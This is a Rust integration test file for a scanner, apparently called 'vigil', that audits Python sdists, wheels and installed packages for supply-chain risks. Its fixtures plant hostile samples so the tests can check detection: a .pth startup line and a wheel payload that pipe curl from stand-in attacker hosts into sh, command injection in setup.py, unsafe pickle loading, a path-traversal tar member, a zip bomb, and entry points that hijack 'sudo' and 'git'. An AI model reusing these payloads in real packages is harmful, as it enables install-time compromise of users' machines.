//! Archives and installed distributions as inputs of `vigil check`: the
//! archives are generated here, in temporary folders.

mod common;

use common::{check_json, stderr, stdout, vigil, write};
use std::io::Write;
use std::path::Path;

const SETUP: &str = "import os\nfrom setuptools import setup\n\nos.system(\"pip install \" + input())\nsetup(name=\"demo\")\n";
const INIT: &str = "import pickle\n\n\ndef load(data):\n    return pickle.loads(data)\n";

fn tar_gz(path: &Path, members: &[(&str, &[u8])]) {
    let gz = flate2::write::GzEncoder::new(
        std::fs::File::create(path).unwrap(),
        flate2::Compression::fast(),
    );
    let mut builder = tar::Builder::new(gz);
    for (name, bytes) in members {
        let mut header = tar::Header::new_gnu();
        header.as_old_mut().name[..name.len()].copy_from_slice(name.as_bytes());
        header.set_size(bytes.len() as u64);
        header.set_mode(0o644);
        header.set_cksum();
        builder.append(&header, *bytes).unwrap();
    }
    builder.into_inner().unwrap().finish().unwrap();
}

fn zip_bytes(members: &[(&str, &[u8])]) -> Vec<u8> {
    let mut zip = zip::ZipWriter::new(std::io::Cursor::new(Vec::new()));
    let options = zip::write::SimpleFileOptions::default()
        .compression_method(zip::CompressionMethod::Deflated);
    for (name, bytes) in members {
        zip.start_file(*name, options).unwrap();
        zip.write_all(bytes).unwrap();
    }
    zip.finish().unwrap().into_inner()
}

/// `demo-1.0.tar.gz` in `dir`: PKG-INFO, setup.py, the package, and a
/// wheel of another package in its test data.
fn sdist(dir: &Path) {
    let wheel = zip_bytes(&[
        ("inner/__init__.py", INIT.as_bytes()),
        (
            "inner-2.0.dist-info/METADATA",
            b"Name: inner\nVersion: 2.0\n",
        ),
    ]);
    tar_gz(
        &dir.join("demo-1.0.tar.gz"),
        &[
            (
                "demo-1.0/PKG-INFO",
                b"Metadata-Version: 2.1\nName: demo\nVersion: 1.0\n",
            ),
            ("demo-1.0/setup.py", SETUP.as_bytes()),
            ("demo-1.0/demo/__init__.py", INIT.as_bytes()),
            ("demo-1.0/README.txt", b"not scanned\n"),
            ("demo-1.0/tests/data/inner-2.0-py3-none-any.whl", &wheel),
        ],
    );
}

/// The messages of the findings of `rule`.
fn messages(report: &serde_json::Value, rule: &str) -> Vec<String> {
    report["findings"]
        .as_array()
        .unwrap()
        .iter()
        .filter(|f| f["rule"] == rule)
        .map(|f| f["message"].as_str().unwrap().to_string())
        .collect()
}

/// Path and line of each finding of `rule`.
fn rule_lines(report: &serde_json::Value, rule: &str) -> Vec<(String, u64)> {
    places(report)
        .into_iter()
        .filter(|(_, r, _, _)| r == rule)
        .map(|(p, _, l, _)| (p, l))
        .collect()
}

fn places(report: &serde_json::Value) -> Vec<(String, String, u64, u64)> {
    report["findings"]
        .as_array()
        .unwrap()
        .iter()
        .map(|f| {
            (
                f["path"].as_str().unwrap().to_string(),
                f["rule"].as_str().unwrap().to_string(),
                f["line"].as_u64().unwrap(),
                f["column"].as_u64().unwrap(),
            )
        })
        .collect()
}

#[test]
fn an_sdist_is_scanned_in_memory_and_findings_point_inside_it() {
    let dir = tempfile::tempdir().unwrap();
    sdist(dir.path());
    let (code, report) = check_json(dir.path(), &["demo-1.0.tar.gz"]);
    assert_eq!(code, 1, "{report}");
    let found = places(&report);
    assert!(
        found.contains(&(
            "demo-1.0.tar.gz!/demo-1.0/setup.py".into(),
            "command-injection".into(),
            4,
            1
        )),
        "{found:?}"
    );
    assert!(
        found
            .iter()
            .any(|f| f.0 == "demo-1.0.tar.gz!/demo-1.0/demo/__init__.py" && f.2 == 5),
        "{found:?}"
    );
    // The wheel in the sdist's test data, one level down.
    assert!(
        found.iter().any(|f| f.0
            == "demo-1.0.tar.gz!/demo-1.0/tests/data/inner-2.0-py3-none-any.whl!/inner/__init__.py"),
        "{found:?}"
    );
    let package = &report["summary"]["packages"][0];
    assert_eq!(package["source"], "demo-1.0.tar.gz");
    assert_eq!(package["kind"], "sdist");
    assert_eq!(package["name"], "demo");
    assert_eq!(package["version"], "1.0");
    assert_eq!(package["files_scanned"], 3);
    assert_eq!(package["findings"], report["summary"]["findings"]);
    assert!(!package["by_category"].as_object().unwrap().is_empty());
    assert_eq!(
        package["runs_at_install"],
        serde_json::json!(["setup.py when pip builds the sdist"])
    );
    // setup.py starts a program as it is installed: a sign, and the verdict
    // names its rule.
    let verdict = package["verdict"].as_str().unwrap();
    assert!(verdict.contains("install-time-code"), "{verdict}");
    assert!(
        verdict.contains("runs code when installed (setup.py when pip builds the sdist)"),
        "{verdict}"
    );
    assert_eq!(report["summary"]["files_scanned"], 3);
    // Nothing was extracted beside the archive.
    assert_eq!(std::fs::read_dir(dir.path()).unwrap().count(), 1);
}

#[test]
fn every_format_names_the_member_inside_the_archive() {
    let dir = tempfile::tempdir().unwrap();
    sdist(dir.path());
    for format in [
        "text", "json", "sarif", "html", "github", "gitlab", "junit", "csv",
    ] {
        let out = vigil(
            dir.path(),
            &["check", "-q", "-f", format, "demo-1.0.tar.gz"],
        );
        assert_eq!(out.status.code(), Some(1), "{format}: {}", stderr(&out));
        assert!(
            stdout(&out).contains("demo-1.0.tar.gz!/demo-1.0/setup.py"),
            "{format}: {}",
            stdout(&out)
        );
    }
    let out = vigil(dir.path(), &["check", "-q", "demo-1.0.tar.gz"]);
    let text = stdout(&out);
    assert!(
        text.contains("Packages:\n  demo 1.0 (sdist demo-1.0.tar.gz): 3 files"),
        "{text}"
    );
    // SARIF: the member names its archive (parentIndex).
    let out = vigil(
        dir.path(),
        &["check", "-q", "-f", "sarif", "demo-1.0.tar.gz"],
    );
    let sarif: serde_json::Value = serde_json::from_slice(&out.stdout).unwrap();
    let artifacts = sarif["runs"][0]["artifacts"].as_array().unwrap();
    let uri = |a: &serde_json::Value| a["location"]["uri"].as_str().unwrap().to_string();
    let archive = artifacts
        .iter()
        .position(|a| uri(a) == "demo-1.0.tar.gz")
        .expect("the archive is an artifact");
    let setup = artifacts
        .iter()
        .find(|a| uri(a) == "demo-1.0.tar.gz!/demo-1.0/setup.py")
        .expect("the member is an artifact");
    assert_eq!(setup["parentIndex"], archive);
}

#[test]
fn suppressions_baselines_and_fingerprints_work_inside_archives() {
    let dir = tempfile::tempdir().unwrap();
    let suppressed = SETUP.replace("input())\n", "input())  # nosec\n");
    tar_gz(
        &dir.path().join("demo-1.0.tar.gz"),
        &[("demo-1.0/setup.py", suppressed.as_bytes())],
    );
    let (code, report) = check_json(dir.path(), &["demo-1.0.tar.gz"]);
    assert_eq!(code, 0, "{report}");
    // The shell command and the install-time code it is, on that line.
    assert_eq!(report["summary"]["suppressed"], 2, "{report}");

    // The same archive in two places: the same fingerprints.
    let (a, b) = (tempfile::tempdir().unwrap(), tempfile::tempdir().unwrap());
    sdist(a.path());
    sdist(b.path());
    let (_, first) = check_json(a.path(), &["demo-1.0.tar.gz"]);
    let (_, second) = check_json(b.path(), &["demo-1.0.tar.gz"]);
    let prints = |r: &serde_json::Value| -> Vec<String> {
        r["findings"]
            .as_array()
            .unwrap()
            .iter()
            .map(|f| f["fingerprint"].as_str().unwrap().to_string())
            .collect()
    };
    assert!(!prints(&first).is_empty());
    assert_eq!(prints(&first), prints(&second));

    // A baseline written in one place hides the findings in the other.
    let out = vigil(
        a.path(),
        &[
            "check",
            "-q",
            "--write-baseline",
            "base.json",
            "demo-1.0.tar.gz",
        ],
    );
    assert_eq!(out.status.code(), Some(0), "{}", stderr(&out));
    std::fs::copy(a.path().join("base.json"), b.path().join("base.json")).unwrap();
    let (code, report) = check_json(b.path(), &["--baseline", "base.json", "demo-1.0.tar.gz"]);
    assert_eq!(code, 0, "{report}");
    assert_eq!(report["summary"]["findings"], 0);
}

#[test]
fn archives_in_a_folder_are_scanned_unless_no_archives() {
    let dir = tempfile::tempdir().unwrap();
    write(dir.path(), "app.py", "x = 1\n");
    write(
        dir.path(),
        "wheels/demo-1.0-py3-none-any.whl",
        zip_bytes(&[
            ("demo/__init__.py", INIT.as_bytes()),
            ("demo-1.0.dist-info/METADATA", b"Name: demo\nVersion: 1.0\n"),
        ]),
    );
    let (code, report) = check_json(dir.path(), &["--audit", "."]);
    assert_eq!(code, 1, "{report}");
    assert!(
        places(&report)
            .iter()
            .any(|f| f.0 == "wheels/demo-1.0-py3-none-any.whl!/demo/__init__.py"),
        "{report}"
    );
    assert_eq!(report["summary"]["packages"][0]["kind"], "wheel");
    let (code, report) = check_json(dir.path(), &["--audit", "--no-archives", "."]);
    assert_eq!(code, 0, "{report}");
    assert_eq!(report["summary"]["files_scanned"], 1);
    assert!(report["summary"].get("packages").is_none());
    // Named on the command line, an archive is read all the same.
    let (code, _) = check_json(
        dir.path(),
        &[
            "--audit",
            "--no-archives",
            "wheels/demo-1.0-py3-none-any.whl",
        ],
    );
    assert_eq!(code, 1);
}

#[test]
fn hostile_archives_are_their_own_errors_and_the_scan_goes_on() {
    let dir = tempfile::tempdir().unwrap();
    write(dir.path(), "app.py", "import os\nos.system(input())\n");
    write(dir.path(), "corrupt.whl", b"PK\x03\x04 this is no zip");
    // A zip bomb: 2 x 7 MiB of zeros from a few KiB (each member under
    // the size bound, together over the ratio).
    let zeros = vec![b'\0'; 7 * 1024 * 1024];
    write(
        dir.path(),
        "bomb-1.0.zip",
        zip_bytes(&[("pkg/a.py", &zeros), ("pkg/b.py", &zeros)]),
    );
    // Named as no package's archive: data, not read from a folder.
    write(dir.path(), "fixtures.zip", b"PK\x03\x04 not read");
    tar_gz(
        &dir.path().join("slip-1.0.tar.gz"),
        &[
            ("../../evil.py", b"import os\n"),
            ("slip-1.0/ok.py", b"x = 1\n"),
        ],
    );
    let started = std::time::Instant::now();
    let (code, report) = check_json(dir.path(), &["."]);
    assert!(started.elapsed().as_secs() < 60);
    assert_eq!(code, 2, "{report}");
    let errors: Vec<String> = report["errors"]
        .as_array()
        .unwrap()
        .iter()
        .map(|e| {
            format!(
                "{}: {}",
                e["path"].as_str().unwrap(),
                e["message"].as_str().unwrap()
            )
        })
        .collect();
    assert!(
        errors
            .iter()
            .any(|e| e.starts_with("corrupt.whl: malformed")),
        "{errors:?}"
    );
    assert!(
        errors
            .iter()
            .any(|e| e.starts_with("bomb-1.0.zip: compression ratio")),
        "{errors:?}"
    );
    assert!(
        !errors.iter().any(|e| e.starts_with("fixtures.zip")),
        "{errors:?}"
    );
    assert!(
        errors
            .iter()
            .any(|e| e.starts_with("slip-1.0.tar.gz!/../../evil.py: unsafe member path")),
        "{errors:?}"
    );
    // The other files were scanned.
    assert!(places(&report).iter().any(|f| f.0 == "app.py"));
    assert_eq!(report["summary"]["files_scanned"], 2, "{report}");
    let (code, _) = check_json(dir.path(), &["--allow-unanalysed", "--exit-zero", "."]);
    assert_eq!(code, 0);
    // Nothing was written.
    let mut names: Vec<String> = std::fs::read_dir(dir.path())
        .unwrap()
        .map(|e| e.unwrap().file_name().to_string_lossy().into_owned())
        .collect();
    names.sort();
    assert_eq!(
        names,
        [
            "app.py",
            "bomb-1.0.zip",
            "corrupt.whl",
            "fixtures.zip",
            "slip-1.0.tar.gz"
        ]
    );
}

/// A virtual environment holding `demo`, installed from the same files as
/// `extracted/`.
fn installed(root: &Path) {
    let site = "venv/lib/python3.12/site-packages";
    for base in [site, "extracted"] {
        write(root, &format!("{base}/demo/__init__.py"), INIT);
        write(root, &format!("{base}/demo/cli.py"), SETUP);
        // Start-up code: checked, as in any folder.
        write(root, &format!("{base}/demo_helper.pth"), "import os\n");
    }
    write(
        root,
        &format!("{site}/other/__init__.py"),
        "import os\nos.system(input())\n",
    );
    write(
        root,
        &format!("{site}/Demo_Pkg-1.0.dist-info/METADATA"),
        "Metadata-Version: 2.1\nName: Demo.Pkg\nVersion: 1.0\n",
    );
    let metadata = "Metadata-Version: 2.1\nName: Demo.Pkg\nVersion: 1.0\n";
    let record = format!(
        "{}{}{}{}demo/__pycache__/cli.cpython-312.pyc,,\nDemo_Pkg-1.0.dist-info/RECORD,,\n",
        record_line("demo/__init__.py", INIT.as_bytes()),
        record_line("demo/cli.py", SETUP.as_bytes()),
        record_line("demo_helper.pth", b"import os\n"),
        record_line("Demo_Pkg-1.0.dist-info/METADATA", metadata.as_bytes()),
    );
    write(
        root,
        &format!("{site}/Demo_Pkg-1.0.dist-info/RECORD"),
        record,
    );
    write(
        root,
        &format!("{site}/demo/__pycache__/cli.cpython-312.pyc"),
        b"\x00",
    );
}

#[test]
fn an_installed_package_scans_as_its_files_extracted() {
    let dir = tempfile::tempdir().unwrap();
    installed(dir.path());
    let (code, report) = check_json(dir.path(), &["--package", "demo-pkg", "--env", "venv"]);
    assert_eq!(code, 1, "{report}");
    let (_, extracted) = check_json(dir.path(), &["extracted"]);
    let strip = |r: &serde_json::Value, prefix: &str| -> Vec<(String, String, u64, u64)> {
        places(r)
            .into_iter()
            .map(|(p, rule, l, c)| (p.strip_prefix(prefix).unwrap().to_string(), rule, l, c))
            .collect()
    };
    let a = strip(&report, "venv/lib/python3.12/site-packages/");
    assert!(!a.is_empty());
    assert_eq!(a, strip(&extracted, "extracted/"));
    // Only what RECORD lists: `other` is not part of demo.
    assert_eq!(report["summary"]["files_scanned"], 3);
    let package = &report["summary"]["packages"][0];
    assert_eq!(package["kind"], "installed");
    assert_eq!(package["name"], "Demo.Pkg");
    assert_eq!(package["files_scanned"], 3);
    assert_eq!(package["findings"], report["summary"]["findings"]);
    // No paths: `.` is not scanned with --package.
    assert!(
        places(&report)
            .iter()
            .all(|f| !f.0.starts_with("extracted"))
    );
    // Files match RECORD (byte code is Python's own): no record finding.
    assert!(rule_lines(&report, "wheel-record-mismatch").is_empty());
}

#[test]
fn an_installed_package_changed_after_its_install_is_reported() {
    let dir = tempfile::tempdir().unwrap();
    installed(dir.path());
    let site = "venv/lib/python3.12/site-packages";
    // A module edited in place, code and a text file added beside it.
    write(
        dir.path(),
        &format!("{site}/demo/__init__.py"),
        "import os\nos.system('id')\n",
    );
    write(dir.path(), &format!("{site}/demo/backdoor.py"), "x = 1\n");
    write(dir.path(), &format!("{site}/demo/notes.txt"), "mine\n");
    let (_, report) = check_json(dir.path(), &["--package", "demo-pkg", "--env", "venv"]);
    let mut found = rule_lines(&report, "wheel-record-mismatch");
    found.sort();
    assert_eq!(
        found,
        [
            (format!("{site}/Demo_Pkg-1.0.dist-info/RECORD"), 1),
            (format!("{site}/demo/backdoor.py"), 1),
        ]
    );
    let messages = messages(&report, "wheel-record-mismatch");
    assert!(
        messages
            .iter()
            .any(|m| m.contains("changed after the package was installed")),
        "{messages:?}"
    );
    assert!(
        messages
            .iter()
            .any(|m| m.contains("added after the package was installed, and it is code")),
        "{messages:?}"
    );
}

#[test]
fn a_missing_package_or_environment_is_an_error() {
    let dir = tempfile::tempdir().unwrap();
    installed(dir.path());
    let out = vigil(
        dir.path(),
        &["check", "--package", "absent", "--env", "venv"],
    );
    assert_eq!(out.status.code(), Some(2));
    assert!(
        stderr(&out).contains("package absent is not installed"),
        "{}",
        stderr(&out)
    );
    let out = vigil(
        dir.path(),
        &["check", "--package", "demo-pkg", "--env", "nowhere"],
    );
    assert_eq!(out.status.code(), Some(2));
    let out = std::process::Command::new(env!("CARGO_BIN_EXE_vigil"))
        .args(["check", "--package", "demo-pkg"])
        .current_dir(dir.path())
        .env_remove("VIRTUAL_ENV")
        .output()
        .unwrap();
    assert_eq!(out.status.code(), Some(2));
    assert!(
        stderr(&out).contains("virtual environment"),
        "{}",
        stderr(&out)
    );
    // $VIRTUAL_ENV is the default environment.
    let out = std::process::Command::new(env!("CARGO_BIN_EXE_vigil"))
        .args(["check", "-q", "--package", "Demo_Pkg"])
        .current_dir(dir.path())
        .env("VIRTUAL_ENV", dir.path().join("venv"))
        .output()
        .unwrap();
    assert_eq!(out.status.code(), Some(1), "{}", stderr(&out));
}

/// A `.pth` file: its `import` lines run at every start of Python and are
/// checked as code; its path lines (and an indented `import`, which `site`
/// reads as a path) are not code.
#[test]
fn pth_files_are_checked_as_the_code_site_runs() {
    let dir = tempfile::tempdir().unwrap();
    write(
        dir.path(),
        "site-packages/evil.pth",
        "# a comment\n/opt/lib\n  import not_run\nimport os; os.system(\"curl -s https://payload.attacker.test/p | sh\")\n../shared\n",
    );
    let (code, report) = check_json(dir.path(), &["site-packages/evil.pth"]);
    assert_eq!(code, 1, "{report}");
    let mut found: Vec<(String, u64)> = report["findings"]
        .as_array()
        .unwrap()
        .iter()
        .map(|f| {
            (
                f["rule"].as_str().unwrap().to_string(),
                f["line"].as_u64().unwrap(),
            )
        })
        .collect();
    found.sort();
    assert!(
        found.contains(&("pth-startup-code".to_string(), 4)),
        "{found:?}"
    );
    assert!(
        found.contains(&("download-and-execute".to_string(), 4)),
        "{found:?}"
    );
    assert!(found.iter().all(|(_, line)| *line == 4), "{found:?}");
    assert!(report["errors"].as_array().unwrap().is_empty(), "{report}");
}

/// A `RECORD` line for a member, as a build tool writes it.
fn record_line(name: &str, bytes: &[u8]) -> String {
    use base64::Engine as _;
    use sha2::Digest as _;
    let hash = base64::engine::general_purpose::URL_SAFE_NO_PAD.encode(sha2::Sha256::digest(bytes));
    format!("{name},sha256={hash},{}\n", bytes.len())
}

/// A wheel of `lib` 1.0 whose `RECORD` lists `recorded` while the wheel
/// holds `files` (and its metadata).
fn wheel(path: &Path, recorded: &[(&str, &[u8])], files: &[(&str, &[u8])], with_record: bool) {
    let metadata: &[u8] = b"Metadata-Version: 2.1\nName: lib\nVersion: 1.0\n";
    let mut record: String = recorded.iter().map(|(n, b)| record_line(n, b)).collect();
    record.push_str(&record_line("lib-1.0.dist-info/METADATA", metadata));
    record.push_str("lib-1.0.dist-info/RECORD,,\n");
    let mut members: Vec<(&str, &[u8])> = files.to_vec();
    members.push(("lib-1.0.dist-info/METADATA", metadata));
    if with_record {
        members.push(("lib-1.0.dist-info/RECORD", record.as_bytes()));
    }
    std::fs::write(path, zip_bytes(&members)).unwrap();
}

#[test]
fn a_wheel_that_disagrees_with_its_record_is_reported() {
    let dir = tempfile::tempdir().unwrap();
    let init: &[u8] = b"from .api import get\n";
    let api: &[u8] = b"def get(url):\n    return url\n";
    let data: &[u8] = b"{}\n";
    let all = [
        ("lib/__init__.py", init),
        ("lib/api.py", api),
        ("lib/data.json", data),
    ];
    // Built as it is: nothing to say.
    wheel(
        &dir.path().join("lib-1.0-py3-none-any.whl"),
        &all,
        &all,
        true,
    );
    let (_, report) = check_json(dir.path(), &[".", "--audit"]);
    let rule = |report: &serde_json::Value| -> Vec<(String, String, u64, u64)> {
        places(report)
            .into_iter()
            .filter(|(_, r, _, _)| r == "wheel-record-mismatch")
            .collect()
    };
    assert_eq!(rule(&report), []);

    // A payload appended to a listed file, and a module added.
    let changed: &[u8] =
        b"from .api import get\nimport os; os.system('curl -s https://x.test | sh')\n";
    let added: &[u8] = b"import socket\n";
    wheel(
        &dir.path().join("lib-1.0-py3-none-any.whl"),
        &all,
        &[
            ("lib/__init__.py", changed),
            ("lib/api.py", api),
            ("lib/data.json", data),
            ("lib/_hook.py", added),
        ],
        true,
    );
    let (_, report) = check_json(dir.path(), &["."]);
    let found = rule(&report);
    let record = "lib-1.0-py3-none-any.whl!/lib-1.0.dist-info/RECORD";
    assert_eq!(
        found,
        [
            // Paths sort `-` before `/`: the RECORD entry comes first.
            (
                record.to_string(),
                "wheel-record-mismatch".to_string(),
                1,
                1
            ),
            (
                "lib-1.0-py3-none-any.whl!/lib/_hook.py".to_string(),
                "wheel-record-mismatch".to_string(),
                1,
                1
            ),
        ]
    );
    let messages = messages(&report, "wheel-record-mismatch");
    assert!(
        messages
            .iter()
            .any(|m| m.contains("`lib/__init__.py` is not the file"))
    );
    assert!(
        messages
            .iter()
            .any(|m| m.contains("`lib/_hook.py` is in the wheel but not in its RECORD"))
    );

    // No RECORD at all.
    wheel(
        &dir.path().join("lib-1.0-py3-none-any.whl"),
        &all,
        &all,
        false,
    );
    let (_, report) = check_json(dir.path(), &["."]);
    assert_eq!(
        rule(&report),
        [(
            "lib-1.0-py3-none-any.whl".to_string(),
            "wheel-record-mismatch".to_string(),
            1,
            1
        )]
    );
    // --select of another rule, or --no-archives: not reported.
    let (_, report) = check_json(dir.path(), &[".", "--select", "weak-hash"]);
    assert_eq!(rule(&report), []);
}

#[test]
fn a_console_script_that_takes_over_a_command_is_reported() {
    let dir = tempfile::tempdir().unwrap();
    let init: &[u8] = b"def main():\n    pass\n";
    let write_wheel = |name: &str, scripts: &str| {
        let metadata = format!("Metadata-Version: 2.1\nName: {name}\nVersion: 1.0\n");
        std::fs::write(
            dir.path().join(format!("{name}-1.0-py3-none-any.whl")),
            zip_bytes(&[
                ("pkg/__init__.py", init),
                (
                    &format!("{name}-1.0.dist-info/METADATA"),
                    metadata.as_bytes(),
                ),
                (
                    &format!("{name}-1.0.dist-info/entry_points.txt"),
                    scripts.as_bytes(),
                ),
            ]),
        )
        .unwrap();
    };
    let shadowing = |report: &serde_json::Value| rule_lines(report, "console-script-shadowing");
    write_wheel(
        "innocent_utils",
        "[console_scripts]\ninnocent-utils = pkg:main\nsudo = pkg:main\n\n[innocent.plugins]\nls = pkg:main\n",
    );
    // The package's own command and a plugin entry point named `ls` are fine.
    write_wheel(
        "pip",
        "[console_scripts]\npip = pkg:main\npip3.12 = pkg:main\n",
    );
    let (_, report) = check_json(dir.path(), &["."]);
    assert_eq!(
        shadowing(&report),
        [(
            "innocent_utils-1.0-py3-none-any.whl!/innocent_utils-1.0.dist-info/entry_points.txt"
                .to_string(),
            3
        )]
    );
    // An installed distribution's entry points are read from its dist-info.
    let site = "venv/lib/python3.12/site-packages";
    write(dir.path(), &format!("{site}/pkg/__init__.py"), "x = 1\n");
    write(
        dir.path(),
        &format!("{site}/innocent_utils-1.0.dist-info/METADATA"),
        "Metadata-Version: 2.1\nName: innocent_utils\nVersion: 1.0\n",
    );
    write(
        dir.path(),
        &format!("{site}/innocent_utils-1.0.dist-info/entry_points.txt"),
        "[console_scripts]\ngit = pkg:main\n",
    );
    write(
        dir.path(),
        &format!("{site}/innocent_utils-1.0.dist-info/RECORD"),
        "pkg/__init__.py,,\ninnocent_utils-1.0.dist-info/METADATA,,\n",
    );
    let (_, installed) = check_json(
        dir.path(),
        &["--package", "innocent-utils", "--env", "venv"],
    );
    assert_eq!(
        shadowing(&installed),
        [(
            format!("{site}/innocent_utils-1.0.dist-info/entry_points.txt"),
            2
        )]
    );
    let message = report["findings"]
        .as_array()
        .unwrap()
        .iter()
        .find(|f| f["rule"] == "console-script-shadowing")
        .unwrap()["message"]
        .as_str()
        .unwrap()
        .to_string();
    assert!(message.contains("in place of `sudo`"), "{message}");
}

#[test]
fn a_package_named_one_letter_from_a_popular_one_is_reported() {
    let dir = tempfile::tempdir().unwrap();
    let sdist = |name: &str| {
        tar_gz(
            &dir.path().join(format!("{name}-2.31.0.tar.gz")),
            &[
                (
                    &format!("{name}-2.31.0/PKG-INFO"),
                    format!("Metadata-Version: 2.1\nName: {name}\nVersion: 2.31.0\n").as_bytes(),
                ),
                (&format!("{name}-2.31.0/{name}/__init__.py"), b"x = 1\n"),
            ],
        )
    };
    sdist("reqeusts");
    // The real project, and a name further away.
    sdist("requests");
    sdist("acme-billing");
    let (_, report) = check_json(dir.path(), &["."]);
    let found = rule_lines(&report, "typosquat-name");
    assert_eq!(
        found,
        [(
            "reqeusts-2.31.0.tar.gz!/reqeusts-2.31.0/PKG-INFO".to_string(),
            2
        )]
    );

    // An installed distribution is judged by its METADATA too.
    let site = "venv/lib/python3.12/site-packages";
    write(
        dir.path(),
        &format!("{site}/colourama/__init__.py"),
        "x = 1\n",
    );
    write(
        dir.path(),
        &format!("{site}/colourama-0.4.6.dist-info/METADATA"),
        "Metadata-Version: 2.1\nName: colourama\nVersion: 0.4.6\n",
    );
    write(
        dir.path(),
        &format!("{site}/colourama-0.4.6.dist-info/RECORD"),
        "colourama/__init__.py,,\ncolourama-0.4.6.dist-info/METADATA,,\n",
    );
    let (_, report) = check_json(dir.path(), &["--package", "colourama", "--env", "venv"]);
    let found = rule_lines(&report, "typosquat-name");
    assert_eq!(
        found,
        [(format!("{site}/colourama-0.4.6.dist-info/METADATA"), 2)]
    );
}

#[test]
fn the_dependencies_a_package_declares_are_audited() {
    let dir = tempfile::tempdir().unwrap();
    let metadata = "Metadata-Version: 2.1\nName: acme-client\nVersion: 1.0\n\
                    Requires-Dist: urllib3<1.24\n\
                    Requires-Dist: jinja2==2.10\n\
                    Requires-Dist: requests>=2.0\n\
                    Requires-Dist: django<6\n\
                    Requires-Dist: sphinx; extra == \"docs\"\n\nA client.\n";
    let members: Vec<(&str, &[u8])> = vec![
        ("acme_client/__init__.py", b"x = 1\n"),
        ("acme_client-1.0.dist-info/METADATA", metadata.as_bytes()),
    ];
    std::fs::write(
        dir.path().join("acme_client-1.0-py3-none-any.whl"),
        zip_bytes(&members),
    )
    .unwrap();
    let run = |args: &[&str]| -> serde_json::Value {
        let mut all = vec!["check", "--format", "json", "--quiet"];
        all.extend_from_slice(args);
        let out = std::process::Command::new(env!("CARGO_BIN_EXE_vigil"))
            .args(&all)
            .current_dir(dir.path())
            // The embedded snapshot, whatever this machine imported.
            .env("VIGIL_CACHE_DIR", dir.path().join(".no-cache"))
            .output()
            .unwrap();
        serde_json::from_slice(&out.stdout).unwrap()
    };
    let report = run(&["acme_client-1.0-py3-none-any.whl"]);
    let found = rule_lines(&report, "vulnerable-dependency");
    let at = "acme_client-1.0-py3-none-any.whl!/acme_client-1.0.dist-info/METADATA";
    // A cap below every fix (urllib3 < 1.24) and a vulnerable pin; an open
    // range, a cap above the fixes and an extra's open range are not.
    let lines: std::collections::BTreeSet<u64> = found
        .iter()
        .map(|(path, line)| {
            assert_eq!(path, at);
            *line
        })
        .collect();
    assert_eq!(lines, [4, 5].into());
    let messages: Vec<&str> = report["findings"]
        .as_array()
        .unwrap()
        .iter()
        .filter(|f| f["rule"] == "vulnerable-dependency" && f["line"] == 4)
        .map(|f| f["message"].as_str().unwrap())
        .collect();
    assert!(
        messages
            .iter()
            .all(|m| m.starts_with("urllib3 <1.24 (the newest versions it allows) is affected by")),
        "{messages:?}"
    );
    let package = &report["summary"]["packages"][0];
    assert_eq!(package["findings"], report["summary"]["findings"]);
    assert!(
        package["by_rule"]["vulnerable-dependency"]
            .as_u64()
            .unwrap()
            >= 2
    );

    // An sdist whose PKG-INFO lists no requirement: setuptools' requires.txt.
    tar_gz(
        &dir.path().join("legacy-1.0.tar.gz"),
        &[
            (
                "legacy-1.0/PKG-INFO",
                b"Metadata-Version: 1.2\nName: legacy\nVersion: 1.0\n",
            ),
            (
                "legacy-1.0/legacy.egg-info/requires.txt",
                b"six\n\n[templates]\njinja2==2.10\n",
            ),
            ("legacy-1.0/legacy/__init__.py", b"x = 1\n"),
        ],
    );
    let legacy = run(&["legacy-1.0.tar.gz"]);
    let found: std::collections::BTreeSet<(String, u64)> =
        rule_lines(&legacy, "vulnerable-dependency")
            .into_iter()
            .collect();
    assert_eq!(
        found,
        [(
            "legacy-1.0.tar.gz!/legacy-1.0/legacy.egg-info/requires.txt".to_string(),
            4
        )]
        .into()
    );

    let quiet = run(&[
        "acme_client-1.0-py3-none-any.whl",
        "--ignore",
        "vulnerable-dependency",
    ]);
    assert!(rule_lines(&quiet, "vulnerable-dependency").is_empty());

    // An installed distribution's METADATA is read from disk.
    let site = "venv/lib/python3.12/site-packages";
    write(
        dir.path(),
        &format!("{site}/acme_client/__init__.py"),
        "x = 1\n",
    );
    write(
        dir.path(),
        &format!("{site}/acme_client-1.0.dist-info/METADATA"),
        metadata,
    );
    write(
        dir.path(),
        &format!("{site}/acme_client-1.0.dist-info/RECORD"),
        "acme_client/__init__.py,,\nacme_client-1.0.dist-info/METADATA,,\n",
    );
    let report = run(&["--package", "acme-client", "--env", "venv"]);
    let lines: std::collections::BTreeSet<u64> = rule_lines(&report, "vulnerable-dependency")
        .into_iter()
        .map(|(path, line)| {
            assert_eq!(path, format!("{site}/acme_client-1.0.dist-info/METADATA"));
            line
        })
        .collect();
    assert_eq!(lines, [4, 5].into());
}

#[test]
fn compiled_code_in_a_pure_python_wheel_is_reported() {
    let dir = tempfile::tempdir().unwrap();
    let elf: &[u8] = b"\x7fELF\x02\x01\x01\0\0\0\0\0\0\0\0\0";
    let wheel = |file: &str, tag: &str, members: &[(&str, &[u8])]| {
        let meta = format!("Metadata-Version: 2.1\nName: {file}\nVersion: 1.0\n");
        let wheel_file = format!("Wheel-Version: 1.0\nRoot-Is-Purelib: true\nTag: {tag}\n");
        let mut all: Vec<(String, Vec<u8>)> = members
            .iter()
            .map(|(n, b)| (n.to_string(), b.to_vec()))
            .collect();
        all.push((format!("{file}-1.0.dist-info/METADATA"), meta.into_bytes()));
        all.push((
            format!("{file}-1.0.dist-info/WHEEL"),
            wheel_file.into_bytes(),
        ));
        let refs: Vec<(&str, &[u8])> = all
            .iter()
            .map(|(n, b)| (n.as_str(), b.as_slice()))
            .collect();
        std::fs::write(
            dir.path().join(format!("{file}-1.0-{tag}.whl")),
            zip_bytes(&refs),
        )
        .unwrap();
    };
    // A payload named as data, and a library named as one.
    wheel(
        "acme_utils",
        "py3-none-any",
        &[
            ("acme_utils/__init__.py", b"x = 1\n"),
            ("acme_utils/data/update.bin", elf),
            ("acme_utils/_speedups.so", elf),
            ("acme_utils/notes.txt", b"MZ: not an executable\n"),
        ],
    );
    // A platform wheel says it is compiled; launchers are templates.
    wheel(
        "acme_fast",
        "cp312-cp312-manylinux_2_17_x86_64",
        &[("acme_fast/_core.so", elf)],
    );
    wheel(
        "acme_tools",
        "py3-none-any",
        &[
            ("acme_tools/__init__.py", b"x = 1\n"),
            ("acme_tools/_vendor/distlib/t64.exe", b"MZ"),
            ("acme_tools/setuptools/cli-64.exe", b"MZ"),
        ],
    );
    let (_, report) = check_json(dir.path(), &["."]);
    let mut found = rule_lines(&report, "compiled-code-in-pure-wheel");
